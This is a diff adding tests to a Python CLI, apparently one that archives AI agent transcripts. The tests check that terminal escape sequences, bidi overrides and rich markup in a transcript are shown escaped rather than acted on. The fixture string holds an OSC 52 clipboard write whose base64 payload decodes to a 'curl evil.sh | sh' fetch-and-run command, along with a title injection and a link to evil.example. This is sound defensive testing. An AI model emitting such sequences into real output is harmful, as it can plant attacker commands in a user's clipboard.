@@ -3,7 +3,12 @@
 from __future__ import annotations
 
 import json
+import os
+import pty
+import re
 import shutil
+import subprocess
+import sys
 from pathlib import Path
 
 from .harness import Env, append_lines, make_repo, note_links, running_daemon, wait_for
@@ -105,3 +110,115 @@ def test_show_reads_gemini_legacy_json_sessions(env: Env) -> None:
     (session,) = data["sessions"]
     assert session["agent"] == "gemini"
     assert any(turn["kind"] == "user" for turn in session["turns"])
+
+
+#: What a hostile transcript (a tool's output, a web page the model read, a prompt pasted from
+#: elsewhere) can hold: OSC 52 (write the clipboard), a window title, clear screen + home, an
+#: 8-bit CSI, a bidi override, DEL, a carriage return hiding what precedes it, rich markup and
+#: an emoji code; and a newline and a tab, which must keep their meaning.
+HOSTILE = (
+    "before \x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07 \x1b]0;pwned\x07 \x1b[2J\x1b[H \x9b31m \u202egnp.exe \x7f"
+    " \r[red]not red[/red] [link=https://evil.example]click[/link] :warning: after\nsecond\tline"
+)
+HOSTILE_SHOWN = [
+    "before \\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07 \\x1b]0;pwned\\x07 \\x1b[2J\\x1b[H \\x9b31m \\u202egnp.exe \\x7f",
+    " \\r[red]not red[/red] [link=https://evil.example]click[/link] :warning: after\nsecond",
+]
+
+
+def on_terminal(env: Env, *args: str, cwd: Path | None = None) -> str:
+    """Run the real CLI with its stdout on a pseudo-terminal, as a user at a terminal would:
+    rich and click then style their output and strip nothing. Returns what the terminal got."""
+    master, slave = pty.openpty()
+    proc = subprocess.Popen(
+        [sys.executable, "-m", "tracekeeper", *args],
+        stdin=subprocess.DEVNULL,
+        stdout=slave,
+        stderr=subprocess.PIPE,
+        env={**env.vars, "TERM": "xterm-256color", "COLUMNS": "400"},
+        cwd=cwd or env.root,
+    )
+    os.close(slave)
+    chunks: list[bytes] = []
+    while True:
+        try:
+            chunk = os.read(master, 65536)
+        except OSError:  # EIO: the child closed the terminal
+            break
+        if not chunk:
+            break
+        chunks.append(chunk)
+    os.close(master)
+    assert proc.wait(timeout=60) == 0, proc.stderr.read() if proc.stderr else ""
+    return b"".join(chunks).decode().replace("\r\n", "\n")  # the tty's ONLCR
+
+
+def assert_nothing_reaches_the_terminal(out: str) -> None:
+    """No control character of the text survives: only SGR styling (colour, bold) is left."""
+    styling = re.sub(r"\x1b\[[0-9;]*m", "", out)
+    for char in ("\x1b", "\x07", "\x9b", "\x7f", "\r", "\u202e"):
+        assert char not in styling, (char, out)
+
+
+def test_show_renders_a_transcripts_control_sequences_and_markup_visibly(env: Env) -> None:
+    repo = make_repo(env).install()
+    transcript = env.transcript(CODEX.name)
+    meta = CODEX.read_bytes().splitlines(keepends=True)[0]
+
+    def record(kind: str, payload: dict[str, object]) -> bytes:
+        return json.dumps({"timestamp": "2026-11-25T09:00:00.000Z", "type": kind, "payload": payload}).encode() + b"\n"
+
+    lines = [
+        meta,
+        record("event_msg", {"type": "user_message", "message": HOSTILE}),
+        record(
+            "response_item",
+            {"type": "message", "role": "assistant", "content": [{"type": "output_text", "text": HOSTILE}]},
+        ),
+        record(
+            "response_item",
+            {"type": "function_call", "name": "shell\x1b]0;t\x07", "arguments": HOSTILE, "call_id": "c1"},
+        ),
+        record("response_item", {"type": "function_call_output", "call_id": "c1", "output": HOSTILE}),
+    ]
+    transcript.write_bytes(b"".join(lines))
+    repo.activate(transcript)
+    with running_daemon(env):
+        sha = repo.commit("x")
+        wait_for(lambda: repo.note(sha), what="note")
+
+    env.vars["COLUMNS"] = "400"  # one line per paragraph, to compare whole lines
+    piped = env.cli("show", sha, "-C", str(repo.path)).stdout
+    terminal = on_terminal(env, "show", sha, "-C", str(repo.path))
+    for out in (piped, terminal):
+        assert_nothing_reaches_the_terminal(out)
+        plain = re.sub(r"\x1b\[[0-9;]*m", "", out)
+        assert plain.count(HOSTILE_SHOWN[0]) == 4, plain  # user, assistant, tool call, tool result
+        assert plain.count(HOSTILE_SHOWN[1]) == 4, plain
+        assert "shell\\x1b]0;t\\x07" in plain
+
+    # The bytes themselves, for programs: --raw is the transcript as it is, --json escapes.
+    raw = env.cli("show", sha, "-C", str(repo.path), "--raw").stdout.encode()
+    assert raw == b"".join(lines[:5])
+    shown = env.cli("show", sha, "-C", str(repo.path), "--json").stdout
+    assert_nothing_reaches_the_terminal(shown)
+    turns = json.loads(shown)["sessions"][0]["turns"]
+    assert [t["text"] for t in turns if t["kind"] in ("user", "assistant")] == [HOSTILE, HOSTILE]
+
+
+def test_visible_spells_out_exactly_what_a_terminal_would_act_on() -> None:
+    from tracekeeper.safetext import markup, visible
+
+    every = (
+        "".join(map(chr, range(0x20)))
+        + "\x7f\x85\x9b\x9d"
+        + "".join(map(chr, [*range(0x202A, 0x202F), *range(0x2066, 0x206A)]))
+    )
+    shown = visible(every)
+    assert shown.isprintable() and shown.isascii()
+    assert shown.startswith("\\x00\\x01") and "\\n\\x0b\\x0c\\r" in shown and "\\t" in shown
+    assert shown.endswith("\\x7f\\x85\\x9b\\x9d\\u202a\\u202b\\u202c\\u202d\\u202e\\u2066\\u2067\\u2068\\u2069")
+    assert visible("a\nb\tc\rd", multiline=True) == "a\nb\tc\\rd"
+    ordinary = "naïve 日本語 ⚙ — emoji 🙂, arabic مرحبا, backslash \\x1b stays"
+    assert visible(ordinary) == ordinary
+    assert markup("[bold]x[/bold] \x1b") == "\\[bold]x\\[/bold] \\x1b"
